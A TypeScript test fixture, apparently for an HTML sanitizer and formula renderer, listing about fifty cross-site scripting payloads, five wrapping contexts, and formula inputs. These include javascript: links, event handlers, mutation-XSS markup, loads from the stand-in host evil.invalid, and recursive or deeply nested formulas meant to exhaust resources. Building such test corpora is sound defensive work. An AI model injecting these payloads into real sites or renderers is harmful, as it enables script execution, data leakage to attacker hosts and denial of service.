/**
 * Markup that wants to run. Each calls `pwned()`, which tests put into the page, or fetches something from `evil.invalid`.
 * Written by hand after the known families: event attributes, script addresses, markup that parsers read differently, formulas.
 */
const raw = String.raw;

const elements: readonly string[] = [
  '<script>pwned()</script>',
  '<script src="http://evil.invalid/x.js"></script>',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<IMG SRC=x OnErRoR="pwned()">',
  '<img src=x onerror=pwned()//',
  '<<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  '<math href="javascript:pwned()">m</math>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><img src=x onerror=pwned()></template>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()><summary>s</summary></details>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<marquee onstart=pwned()>m</marquee>',
  '<x onclick=pwned() onmouseover=pwned() tabindex=0>h</x>',
  '<p onmouseover=pwned() onclick=pwned()>p</p>',
  '<a href="javascript:pwned()">a</a>',
  '<a href="java\tscript:pwned()">a</a>',
  '<a href="&#106;avascript&colon;pwned()">a</a>',
  '<a href=" \u0001javascript:pwned()">a</a>',
  '<a href="data:text/html,<script>opener.pwned()</script>">a</a>',
  '<form action="javascript:pwned()"><button>b</button></form>',
  '<button formaction="javascript:pwned()">b</button>',
  '<style>@import "http://evil.invalid/s.css";</style>',
  '<link rel=stylesheet href="http://evil.invalid/s.css">',
  '<base href="http://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
  '<img src="http://evil.invalid/t.gif">',
  '<img src="//evil.invalid/t.gif">',
  '<p style="background:url(http://evil.invalid/b.png)">p</p>',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>\">",
  '<table background="http://evil.invalid/t.png"><tr><td>t</td></tr></table>',
  '"><img src=x onerror=pwned()>',
  "'><svg onload=pwned()>",
  '</title><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '</textarea></style></noscript><img src=x onerror=pwned()>',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[><img src=x onerror=pwned()>]]>',
  '<span class="ql-formula" data-value="\\href{javascript:pwned()}{x}">f</span>',
];

export const hostileFormulas: readonly string[] = [
  raw`\href{javascript:pwned()}{x}`,
  raw`\url{javascript:pwned()}`,
  raw`\htmlData{onclick=pwned()}{x}`,
  raw`\htmlStyle{background:url(http://evil.invalid/)}{x}`,
  raw`\htmlId{root}{x}`,
  raw`\includegraphics{http://evil.invalid/x.png}`,
  raw`\text{<img src=x onerror=pwned()>}`,
  '<img src=x onerror=pwned()>',
  '</math><script>pwned()</script>',
  raw`\rule{1000000em}{1000000em}`,
  raw`\rule{1em}{1em}`.repeat(9990),
  raw`\def\a{\a\a}\a`,
  raw`\newcommand{\b}{\b\b\b}\b`,
  raw`\let\c=\c \c`,
  '{'.repeat(5000),
  `${'{'.repeat(10_000)}x${'}'.repeat(10_000)}`,
  raw`\sqrt{`.repeat(3000),
  raw`\left(`.repeat(2000),
  raw`\begin{matrix}`.repeat(500),
  `x${'^{x'.repeat(2000)}`,
  raw`\frac`.repeat(4000),
  'x+'.repeat(50_000),
  raw`\unknowncommand{x}`,
  raw`\color{red}\colorbox{url(http://evil.invalid/)}{x}`,
  raw`\kern{-99999em}x\hskip99999em y`,
];

const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<p>ক${inner}খ</p>`,
  (inner) => `<b><i><sub>${inner}`,
  (inner) => `$x$ ${inner} $y$`,
  (inner) => `<p title="${inner}">t</p>`,
];

/** 250 pieces of markup, and the formulas in text. */
export const payloads: readonly string[] = elements.flatMap((element) => wrappers.map((wrap) => wrap(element)));
export const formulaTexts: readonly string[] = hostileFormulas.flatMap((formula) => [`$${formula}$`, `ক $$${formula}$$ খ`]);

/** Short enough for a name or a title, and one for each place it may land in: text, attribute, script, address. */
export const shortPayloads: readonly string[] = [
  '<img src=x onerror=pwned()>',
  '"><svg onload=pwned()>',
  "'-pwned()-'",
  '</script><script>pwned()</script>',
  '</title><svg onload=pwned()>',
  '{{pwned()}}${pwned()}',
  'javascript:pwned()//',
  '&lt;img src=x onerror=pwned()&gt;',
  raw`$\href{javascript:pwned()}{x}$`,
  raw`\u003cimg src=x onerror=pwned()\u003e`,
];
